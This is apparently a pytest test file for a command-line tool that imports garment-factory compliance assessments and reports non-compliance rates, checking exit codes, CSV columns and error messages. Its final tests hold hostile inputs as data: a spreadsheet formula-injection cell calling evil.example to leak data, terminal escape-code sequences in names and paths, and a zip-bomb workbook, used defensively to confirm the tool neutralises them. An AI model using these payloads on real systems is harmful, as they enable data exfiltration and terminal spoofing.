"""The bwcases command as analysts script it: exit statuses, CSV contracts, what reaches a terminal.

Most cases run the command in this process with Click's runner (`bw`); those about the process
itself (the console script, a real terminal) run it as a process."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import select
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text

from bwcases.store import Store
from tests.helpers import EXPORT_HEADER, bw, sheet_xml, write_csv, zip_workbook


def console_script(*args: str) -> subprocess.CompletedProcess[str]:
    """Run the installed `bwcases` console script as a process of its own."""
    script = Path(sys.executable).with_name("bwcases")
    assert script.is_file(), f"no console script at {script}: pip install -e ."
    env = {k: v for k, v in os.environ.items() if k != "BWCASES_DB"}
    return subprocess.run(
        [str(script), *args], capture_output=True, text=True, env=env, timeout=120
    )


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def loaded(store_url: str, export_file: Path) -> str:
    """A store of the test's own with the fixture export, imported by the command."""
    done = bw("--db", store_url, "import", "assessments", str(export_file))
    assert done.exit_code == 0, done.stderr
    return store_url


@pytest.fixture
def shared_url(loaded_store: Store) -> str:
    """The fixture export in the store the tests that only read share."""
    return loaded_store.url


def test_init_creates_then_reports_up_to_date(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'new.sqlite'}"
    first = bw("init", "--db", url)
    assert first.exit_code == 0 and "created" in first.stdout
    again = bw("init", "--db", url)
    assert again.exit_code == 0 and "up to date" in again.stdout


def test_bwcases_db_environment_chooses_the_store(tmp_path: Path, export_file: Path) -> None:
    path = tmp_path / "env.sqlite"
    done = bw("import", "assessments", str(export_file), env={"BWCASES_DB": str(path)})
    assert done.exit_code == 0, done.stderr
    assert path.exists()
    listing = bw("factories", "--format", "csv", env={"BWCASES_DB": f"sqlite:///{path}"})
    assert {r["factory_id"] for r in table(listing.stdout)} == {"VN001", "VN002", "KH001"}


def test_rates_csv_has_the_contract_columns(shared_url: str) -> None:
    out = bw(
        "rates",
        "--db",
        shared_url,
        "--method",
        "latest",
        "--from",
        "2023-01",
        "--to",
        "2024-12",
        "--country",
        "Vietnam",
        "--format",
        "csv",
    )
    assert out.exit_code == 0, out.stderr
    assert out.stdout.splitlines()[0] == (
        "country,cluster,compliance_point,factories_assessed,factories_non_compliant,"
        "non_compliance_rate"
    )
    rows = {r["compliance_point"]: r for r in table(out.stdout)}
    # VN001's latest (Quest.ID 1500) is non-compliant on both; VN002 is obsolete
    assert rows["Emergency Preparedness"]["cluster"] == "Occupational Safety and Health"
    assert rows["Emergency Preparedness"]["factories_assessed"] == "1"
    assert float(rows["Minimum Wages/Piece Rate Wages"]["non_compliance_rate"]) == 1.0


MW = "CMP.MW.01,Minimum Wages/Piece Rate Wages,Compensation"
MW2 = "CMP.MW.02,Minimum Wages/Piece Rate Wages,Compensation"
OT = "WT.OT.01,Overtime,Working Time"
EP = "OSH.EP.01,Emergency Preparedness,Occupational Safety and Health"
EP_SYSTEMS = "OSH.EP.01,Emergency Preparedness,Systems"
HW = "CHL.HW.01,Hazardous Work,Child Labour"
UW = "CHL.UW.01,Unconditional Worst Forms,Child Labour"
FGW = "FGW.01,Employment Contracts,Contracts and Human Resources"
# One row per question asked: (country, cycle, factory, name, Quest.ID, start date), the
# question, its finding. Comments say which assessment counts with --from 2023-01 --to 2023-12.
RATES_EXPORT = [
    f"{country},{cycle},{fid},{name},{quest},{date},{kind},Q?,{question},{finding},"
    for country, cycle, fid, name, quest, date, kind, question, finding in [
        # VN1: two assessments in the window; the later one (Quest.ID 150) counts
        ("Vietnam", 1, "VN1", "Alpha", 101, "10/02/2023", "NCQ", MW, 1),
        ("Vietnam", 1, "VN1", "Alpha", 101, "10/02/2023", "NCQ", OT, 0),
        ("Vietnam", 2, "VN1", "Alpha", 150, "05/09/2023", "NCQ", MW, 0),
        ("Vietnam", 2, "VN1", "Alpha", 150, "05/09/2023", "NCQ", MW2, 0),
        ("Vietnam", 2, "VN1", "Alpha", 150, "05/09/2023", "NCQ", OT, 1),
        ("Vietnam", 2, "VN1", "Alpha", 150, "05/09/2023", "NCQ", EP_SYSTEMS, 1),  # = OSH
        ("Vietnam", 2, "VN1", "Alpha", 150, "05/09/2023", "FGW", FGW, 900),  # a fact: never counted
        # VN2: Quest.ID 120; its later assessment starts after the window
        ("Vietnam", 1, "VN2", "Beta", 120, "20/03/2023", "NCQ", MW, 0),
        ("Vietnam", 1, "VN2", "Beta", 120, "20/03/2023", "NCQ", MW2, 1),  # the CP: any question
        ("Vietnam", 1, "VN2", "Beta", 120, "20/03/2023", "NCQ", OT, 0),
        ("Vietnam", 1, "VN2", "Beta", 120, "20/03/2023", "NCQ", EP, 0),
        ("Vietnam", 2, "VN2", "Beta", 180, "15/01/2024", "NCQ", MW, 1),
        ("Vietnam", 2, "VN2", "Beta", 180, "15/01/2024", "NCQ", EP, 1),
        # VN3: retired, never counted
        ("Vietnam", 1, "VN3", "Gamma (Obsolete)", 130, "01/04/2023", "NCQ", MW, 1),
        ("Vietnam", 1, "VN3", "Gamma (Obsolete)", 130, "01/04/2023", "NCQ", OT, 1),
        # VN4: Quest.ID 140, a row twice; the hazardous-work CPs count as one
        ("Vietnam", 1, "VN4", "Delta", 140, "01/06/2023", "NCQ", MW, 0),
        ("Vietnam", 1, "VN4", "Delta", 140, "01/06/2023", "NCQ", MW, 0),
        ("Vietnam", 1, "VN4", "Delta", 140, "01/06/2023", "NCQ", OT, 1),
        ("Vietnam", 1, "VN4", "Delta", 140, "01/06/2023", "NCQ", HW, 1),
        ("Vietnam", 1, "VN4", "Delta", 140, "01/06/2023", "NCQ", UW, 0),
        # Cambodia: its own rates
        ("Cambodia", 1, "KH1", "Khmer One", 160, "01/07/2023", "NCQ", MW, 1),
        ("Cambodia", 1, "KH1", "Khmer One", 160, "01/07/2023", "NCQ", OT, 1),
        ("Cambodia", 1, "KH2", "Khmer Two", 170, "01/08/2023", "NCQ", MW, 0),
        ("Cambodia", 1, "KH2", "Khmer Two", 170, "01/08/2023", "NCQ", OT, 1),
        # an assessment before the window
        ("Cambodia", 1, "KH3", "Khmer Three", 90, "20/12/2022", "NCQ", MW, 1),
    ]
]
# Worked by hand with the programme's method: (country, CP) -> (cluster, assessed, non-compliant)
RATES_BY_HAND = {
    # VN1@150 compliant on both questions, VN2@120 not on CMP.MW.02, VN4@140 compliant
    ("Vietnam", "Minimum Wages/Piece Rate Wages"): ("Compensation", 3, 1),
    # VN1@150 and VN4@140 non-compliant, VN2@120 compliant
    ("Vietnam", "Overtime"): ("Working Time", 3, 2),
    # VN1@150 (filed under Systems) non-compliant, VN2@120 compliant
    ("Vietnam", "Emergency Preparedness"): ("Occupational Safety and Health", 2, 1),
    # VN4@140: Hazardous Work non-compliant, Unconditional Worst Forms not; one CP
    ("Vietnam", "Hazardous Work and other Worst Forms"): ("Child Labour", 1, 1),
    ("Cambodia", "Minimum Wages/Piece Rate Wages"): ("Compensation", 2, 1),
    ("Cambodia", "Overtime"): ("Working Time", 2, 2),
}


def test_rates_are_the_programmes_figures(store_url: str, tmp_path: Path) -> None:
    export = write_csv(tmp_path / "assessments.csv", RATES_EXPORT)
    assert bw("--db", store_url, "import", "assessments", str(export)).exit_code == 0
    out = bw("rates", "--db", store_url, "--from", "2023-01", "--to", "2023-12", "--format", "csv")
    assert out.exit_code == 0, out.stderr
    got = {
        (r["country"], r["compliance_point"]): (
            r["cluster"],
            int(r["factories_assessed"]),
            int(r["factories_non_compliant"]),
            float(r["non_compliance_rate"]),
        )
        for r in table(out.stdout)
    }
    assert got == {
        key: (cluster, assessed, non_compliant, pytest.approx(non_compliant / assessed))
        for key, (cluster, assessed, non_compliant) in RATES_BY_HAND.items()
    }


@pytest.fixture
def rates_url(store_url: str, tmp_path: Path) -> str:
    """A store of the test's own with RATES_EXPORT."""
    export = write_csv(tmp_path / "assessments.csv", RATES_EXPORT)
    done = bw("--db", store_url, "import", "assessments", str(export))
    assert done.exit_code == 0, done.stderr
    return store_url


def counted(url: str, *args: str) -> dict[tuple[str, ...], tuple[int, int]]:
    """`bwcases rates ARGS` as (country, CP[, cycle]) -> (factories assessed, non-compliant)."""
    out = bw("rates", "--db", url, *args, "--format", "csv")
    assert out.exit_code == 0, out.stderr
    return {
        (r["country"], r["compliance_point"], *([r["cycle"]] if "cycle" in r else [])): (
            int(r["factories_assessed"]),
            int(r["factories_non_compliant"]),
        )
        for r in table(out.stdout)
    }


def test_rates_of_a_cycle_in_a_window(rates_url: str) -> None:
    # cycle 2 starting in 2023: VN1@150 alone (VN2's cycle 2, Quest.ID 180, starts in 2024)
    assert counted(
        rates_url, "--method", "cycle", "--cycle", "2", "--from", "2023-01", "--to", "2023-12"
    ) == {
        ("Vietnam", "Minimum Wages/Piece Rate Wages", "2"): (1, 0),
        ("Vietnam", "Overtime", "2"): (1, 1),
        ("Vietnam", "Emergency Preparedness", "2"): (1, 1),
    }
    # every cycle-2 assessment: VN2@180 too (non-compliant on wages and exits, not asked overtime)
    assert counted(rates_url, "--method", "cycle", "--cycle", "2") == {
        ("Vietnam", "Minimum Wages/Piece Rate Wages", "2"): (2, 1),
        ("Vietnam", "Overtime", "2"): (1, 1),
        ("Vietnam", "Emergency Preparedness", "2"): (2, 2),
    }


def test_rates_of_the_latest_assessments_by_their_cycle(rates_url: str) -> None:
    # the latest in 2023: VN1@150 (cycle 2); VN2@120, VN4@140, KH1@160, KH2@170 (cycle 1)
    got = counted(rates_url, "--from", "2023-01", "--to", "2023-12", "--by-cycle")
    assert got == {
        ("Vietnam", "Minimum Wages/Piece Rate Wages", "1"): (2, 1),  # VN2 (CMP.MW.02), VN4
        ("Vietnam", "Minimum Wages/Piece Rate Wages", "2"): (1, 0),  # VN1
        ("Vietnam", "Overtime", "1"): (2, 1),  # VN4
        ("Vietnam", "Overtime", "2"): (1, 1),  # VN1
        ("Vietnam", "Emergency Preparedness", "1"): (1, 0),  # VN2
        ("Vietnam", "Emergency Preparedness", "2"): (1, 1),  # VN1, filed under Systems
        ("Vietnam", "Hazardous Work and other Worst Forms", "1"): (1, 1),  # VN4
        ("Cambodia", "Minimum Wages/Piece Rate Wages", "1"): (2, 1),
        ("Cambodia", "Overtime", "1"): (2, 2),
    }
    # by cycle, the same factories as without: each once
    for cp in ("Minimum Wages/Piece Rate Wages", "Overtime"):
        assessed = sum(n for (c, p, _), (n, _) in got.items() if (c, p) == ("Vietnam", cp))
        assert assessed == RATES_BY_HAND[("Vietnam", cp)][1]


def test_rates_pooled_over_every_country(rates_url: str) -> None:
    got = counted(rates_url, "--from", "2023-01", "--to", "2023-12", "--country", "all")
    pooled: dict[tuple[str, ...], tuple[int, int]] = {}
    for (_country, cp), (_cluster, assessed, non_compliant) in RATES_BY_HAND.items():
        before = pooled.get(("All countries", cp), (0, 0))
        pooled[("All countries", cp)] = (before[0] + assessed, before[1] + non_compliant)
    assert got == pooled
    assert got[("All countries", "Overtime")] == (5, 4)  # VN1, VN2, VN4, KH1, KH2


@pytest.mark.parametrize(
    ("args", "named"),
    [
        (["--method", "latest", "--from", "2023-01", "--to", "2023-12", "--cycle", "1"], "--cycle"),
        (["--method", "cycle", "--cycle", "1", "--by-cycle"], "--by-cycle"),
        (["--method", "panel", "--cycle", "2", "--from", "2023-01", "--to", "2023-12"], "--from"),
        (["--method", "cycle", "--cycle", "1", "--from", "2023-01"], "--from needs --to"),
        (["--method", "latest", "--to", "2023-12"], "--to needs --from"),
        (
            ["--from", "2023-01", "--to", "2023-12", "--level", "factory", "--country", "all"],
            "--country all",
        ),
    ],
)
def test_rates_refuse_an_option_they_would_ignore(
    shared_url: str, args: list[str], named: str
) -> None:
    out = bw("rates", "--db", shared_url, *args)
    assert out.exit_code == 2, out.stdout
    assert out.stdout == "" and len(out.stderr.splitlines()) == 1
    assert out.stderr.startswith("bwcases: ") and named in out.stderr


COUNTRY_COMMANDS = [
    ["factories"],
    ["rates", "--from", "2023-01", "--to", "2024-12"],
    ["rates", "--method", "cycle", "--cycle", "1", "--level", "question"],
    ["progress", "--as-of", "2024-06-30"],
]
SPELLINGS = ["vietnam", "VIETNAM", "Viet Nam", "VN", "vn"]


def same_as_vietnam(url: str, command: list[str]) -> None:
    """`command --country` spelt every way gives what `--country Vietnam` gives."""
    exact = bw(*command, "--db", url, "--country", "Vietnam", "--format", "csv")
    assert exact.exit_code == 0, exact.stderr
    assert len(exact.stdout.splitlines()) > 1  # Vietnam's rows, not only a header
    for spelt in SPELLINGS:
        out = bw(*command, "--db", url, "--country", spelt, "--format", "csv")
        assert (out.exit_code, out.stdout) == (0, exact.stdout), (spelt, out.stderr)


@pytest.mark.parametrize("command", COUNTRY_COMMANDS[:-1])
def test_a_country_is_matched_in_any_case_and_by_its_iso_code(
    shared_url: str, command: list[str]
) -> None:
    same_as_vietnam(shared_url, command)


def test_progress_matches_a_country_in_any_case_and_by_its_iso_code(apps_store: Store) -> None:
    same_as_vietnam(apps_store.url, COUNTRY_COMMANDS[-1])


def test_the_country_filter_keeps_that_countrys_rows_only(shared_url: str) -> None:
    listing = table(bw("factories", "--db", shared_url, "--country", "vn").stdout)
    assert [r["factory_id"] for r in listing] == ["VN001", "VN002"]
    rates = table(bw("rates", "--db", shared_url, "--from", "2023-01", "--to", "2024-12",
                     "--country", "kh", "--format", "csv").stdout)  # fmt: skip
    assert {r["country"] for r in rates} == {"Cambodia"} and len(rates) == 1


@pytest.mark.parametrize("command", COUNTRY_COMMANDS)
def test_an_unknown_country_exits_2_listing_the_known_ones(
    shared_url: str, command: list[str]
) -> None:
    out = bw(*command, "--db", shared_url, "--country", "Narnia")
    assert out.exit_code == 2 and out.stdout == ""
    assert out.stderr.startswith("bwcases: --country 'Narnia' is not a country bwcases knows: ")
    assert "Vietnam (VN)" in out.stderr and len(out.stderr.splitlines()) == 1


@pytest.mark.parametrize("command", [["factories"], ["progress"]])
def test_all_countries_is_for_rates_and_counts_only(shared_url: str, command: list[str]) -> None:
    out = bw(*command, "--db", shared_url, "--country", "all")
    assert out.exit_code == 2 and "--country all" in out.stderr


def test_a_users_country_is_named_as_the_register_spells_it(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'cases.sqlite'}"
    added = bw("--db", db, "users", "add", "Minh Tran", "--role", "staff", "--country", "vn")
    assert added.exit_code == 0, added.stderr
    listed = table(bw("--db", db, "users", "list", "--format", "csv").stdout)
    assert [(r["name"], r["country"]) for r in listed] == [("Minh Tran", "Vietnam")]
    unknown = bw("--db", db, "users", "add", "Hoa Le", "--role", "staff", "--country", "Narnia")
    assert unknown.exit_code == 2 and "Vietnam (VN)" in unknown.stderr


@pytest.mark.parametrize(
    ("args", "header"),
    [
        (
            ["--level", "cluster"],
            "country,cluster,factories_assessed,factories_non_compliant,non_compliance_rate",
        ),
        (
            ["--level", "question"],
            "country,cluster,compliance_point,question_id,question_label,public_disclosure,findings,"
            "assessments,non_compliance_rate",
        ),
        (
            ["--level", "factory"],
            "country,factory_id,factory_name,cps_non_compliant,cps_assessed,factory_score",
        ),
        (
            ["--method", "cycle", "--cycle", "1"],
            "country,cluster,compliance_point,cycle,factories_assessed,factories_non_compliant,"
            "non_compliance_rate",
        ),
    ],
)
def test_rates_levels_and_methods(shared_url: str, args: list[str], header: str) -> None:
    window = [] if "--method" in args else ["--from", "2023-01", "--to", "2023-12"]
    out = bw("rates", "--db", shared_url, *window, *args, "--format", "csv")
    assert out.exit_code == 0, out.stderr
    assert out.stdout.splitlines()[0] == header
    assert len(out.stdout.splitlines()) > 1


def test_question_level_says_yes_for_public_disclosure(shared_url: str) -> None:
    out = bw(
        "rates",
        "--db",
        shared_url,
        "--from",
        "2023-01",
        "--to",
        "2023-12",
        "--level",
        "question",
        "--format",
        "csv",
    )
    rows = {r["question_id"]: r for r in table(out.stdout)}
    assert rows["CMP.MW.01"]["public_disclosure"] == "yes"
    assert rows["OSH.EP.01"]["public_disclosure"] == "no"


def test_listings_have_the_contract_columns(loaded: str, tmp_path: Path) -> None:
    partners = write_csv(
        tmp_path / "partners.csv",
        [
            "B01,Brand One,buyer,VN001,yes",
            "B01,Brand One,buyer,KH001,no",
            "PAC-VN,Vietnam PAC,governance,VN001,yes",
        ],
        header="Partner.ID,Partner.Name,Partner.Type,Factory.ID,Consent",
    )
    assert bw("import", "partners", str(partners), "--db", loaded).exit_code == 0
    out = bw("partners", "--db", loaded, "--format", "csv")
    assert out.stdout.splitlines()[0] == "partner_id,partner_name,partner_type,factory_id,consent"
    assert {(r["partner_id"], r["factory_id"], r["consent"]) for r in table(out.stdout)} == {
        ("B01", "VN001", "yes"),
        ("B01", "KH001", "no"),
        ("PAC-VN", "VN001", "yes"),
    }
    out = bw("factories", "--db", loaded, "--country", "Vietnam", "--format", "csv")
    assert out.stdout.splitlines()[0].startswith(
        "factory_id,factory_name,country,workers,advisor,status"
    )
    assert [r["factory_id"] for r in table(out.stdout)] == ["VN001", "VN002"]
    as_json = bw("factories", "--db", loaded, "--format", "json")
    assert '"factory_id":"KH001"' in as_json.stdout.replace(" ", "")


def test_bad_input_exits_2_with_one_line_per_problem_and_writes_nothing(
    loaded: str, tmp_path: Path
) -> None:
    bad = write_csv(
        tmp_path / "bad.csv",
        [
            "Vietnam,1,VN009,New Mill,2001,31/02/2023,NCQ,Q?,CMP.MW.01,Minimum Wages/Piece Rate Wages,Compensation,1,",
            "Vietnam,1,VN009,New Mill,2001,01/02/2023,NCQ,Q?,CMP.MW.02,Minimum Wages/Piece Rate Wages,Compensation,yes,",
        ],
    )
    before = bw("export", "assessments", "--db", loaded).stdout
    # the process as a script sees it: its exit status, and its stderr apart from its stdout
    out = console_script("import", "assessments", str(bad), "--db", loaded)
    assert out.returncode == 2
    lines = out.stderr.splitlines()
    assert (
        "bwcases: bad.csv row 2, column Assesment.Start.Date: '31/02/2023' is not a date"
        in lines[0]
    )
    assert "bwcases: bad.csv row 3, column Finding: 'yes' is not 0 or 1" in lines[1]
    assert "Traceback" not in out.stderr and out.stdout == ""
    assert bw("export", "assessments", "--db", loaded).stdout == before


@pytest.mark.parametrize(
    "args",
    [
        ["rates", "--method", "latest"],
        ["rates", "--from", "2023-13", "--to", "2024-01"],
        ["rates", "--method", "panel"],
        ["progress", "--as-of", "yesterday"],
        ["progress", "--factory", "NOPE"],
    ],
)
def test_bad_usage_exits_2_with_a_clear_line(shared_url: str, args: list[str]) -> None:
    out = bw(*args, "--db", shared_url)
    assert out.exit_code == 2
    assert out.stderr.startswith("bwcases: ") and len(out.stderr.splitlines()) == 1


def test_progress_csv(loaded: str, tmp_path: Path) -> None:
    plan = write_csv(
        tmp_path / "plan.csv",
        [
            "VN001,1001,CMP.MW.01,Minimum Wages/Piece Rate Wages,Underpaid,Pay,HR,01/06/2023,Pending,"
        ],
        header="Factory.ID,Quest.ID,Question.ID,Compliance.point,Issue,Action,Responsible,Due.Date,Status,Notes",
    )
    assert bw("import", "improvement-plan", str(plan), "--db", loaded).exit_code == 0
    out = bw(
        "progress", "--db", loaded, "--factory", "VN001", "--as-of", "2024-06-30", "--format", "csv"
    )
    assert out.exit_code == 0, out.stderr
    row = table(out.stdout)[0]
    assert (
        row["factory_id"],
        row["items"],
        row["pending"],
        row["overdue"],
        row["persistent_open"],
    ) == (
        "VN001",
        "1",
        "1",
        "1",
        "1",
    )


# -- what the command writes is safe where it lands -------------------------------------------


def test_csv_listings_quote_texts_a_spreadsheet_would_run(loaded: str, tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?leak","Brand One")'
    partners = tmp_path / "partners.csv"
    with partners.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(
            [
                ["Partner.ID", "Partner.Name", "Partner.Type", "Factory.ID", "Consent"],
                ["B01", hyperlink, "buyer", "VN001", "yes"],
                ["B02", "@Brand Two", "buyer", "VN001", "yes"],
                ["B03", "+Brand-Three", "buyer", "", ""],
                ["-4", "Brand Four", "buyer", "", ""],
            ]
        )
    assert bw("import", "partners", str(partners), "--db", loaded).exit_code == 0
    out = bw("partners", "--db", loaded, "--format", "csv")
    names = {r["partner_id"]: r["partner_name"] for r in table(out.stdout)}
    assert names == {
        "B01": "'" + hyperlink,
        "B02": "'@Brand Two",
        "B03": "'+Brand-Three",
        "-4": "Brand Four",  # a number cannot be a formula
    }
    as_json = bw("partners", "--db", loaded, "--format", "json")
    as_listed = {r["partner_id"]: r["partner_name"] for r in json.loads(as_json.stdout)}
    assert as_listed["B01"] == hyperlink  # JSON is not a spreadsheet
    rates = bw("rates", "--db", loaded, "--from", "2023-01", "--to", "2024-12", "--format", "csv")
    assert all(float(r["non_compliance_rate"]) >= 0 for r in table(rates.stdout))


def on_terminal(*args: str) -> str:
    """Run the bwcases command with a terminal as its output; returns what the terminal got."""
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "bwcases", *args],
        stdin=subprocess.DEVNULL,
        stdout=follower,
        stderr=follower,
    )
    os.close(follower)
    out = b""
    while select.select([leader], [], [], 120)[0]:
        try:
            data = os.read(leader, 65536)
        except OSError:  # the command ended and the terminal closed
            break
        if not data:
            break
        out += data
    os.close(leader)
    proc.wait(timeout=10)
    return out.decode("utf-8", "replace")


ESCAPES = "\x1b[31m\x1b]0;owned\x07\x9b2J\x1b]8;;http://evil.example\x1b\\\x08\r"


@pytest.mark.parametrize("fmt", [[], ["--format", "csv"], ["--format", "table"]])
def test_names_reach_a_terminal_without_escape_codes(loaded: str, fmt: list[str]) -> None:
    engine = create_engine(loaded)
    with engine.begin() as conn:
        conn.execute(
            text("UPDATE factories SET factory_name = :name WHERE factory_id = 'VN001'"),
            {"name": f"Saigon{ESCAPES} Garments"},
        )
    engine.dispose()
    shown = on_terminal("factories", "--db", loaded, "--country", "Vietnam", *fmt)
    assert "Saigon Garments" in shown and "VN002" in shown
    assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", shown), repr(shown)


def test_error_lines_carry_no_escape_codes(shared_url: str, tmp_path: Path) -> None:
    path = tmp_path / "assessments\x1b[31m\x1b]0;owned\x07\x9b2J\x08.csv"  # no slash
    out = bw("import", "assessments", str(path), "--db", shared_url)
    assert out.exit_code == 2
    assert out.stderr.startswith("bwcases: assessments")
    assert "no such file" in out.stderr
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out.stderr), repr(out.stderr)


def test_an_xlsx_zip_bomb_is_one_clear_line(shared_url: str, tmp_path: Path) -> None:
    rows = [EXPORT_HEADER.split(","), *[["Vietnam", "1", "VN001"] * 4] * 40_000]
    bomb = zip_workbook(tmp_path / "bomb.xlsx", sheet_xml(rows))
    out = bw("import", "assessments", str(bomb), "--db", shared_url)
    assert out.exit_code == 2
    lines = out.stderr.splitlines()
    assert lines[0].startswith("bwcases: bomb.xlsx: has a part (xl/worksheets/sheet1.xml) ")
    assert lines[0].endswith("it looks like a zip bomb")
    assert lines[1:] == ["bwcases: Nothing was written."]


@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A folder on a 64 kB file system (a real full disk: a tmpfs, mounted as root)."""
    folder = tmp_path / "full"
    folder.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(folder)], capture_output=True
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here: {mounted.stderr.decode().strip()}")
    try:
        yield folder
    finally:
        subprocess.run(["umount", str(folder)], check=False)


def test_an_export_to_a_full_disk_is_one_line_and_leaves_no_half_file(
    demo_store: Store, full_disk: Path
) -> None:
    target = full_disk / "assessments.csv"
    out = bw("--db", demo_store.url, "export", "assessments", "-o", str(target))
    assert out.exit_code == 1, out.stderr
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1, out.stderr
    assert str(target) in lines[0] and "No space left on device" in lines[0]
    assert list(full_disk.iterdir()) == []  # neither the file nor a half-written part
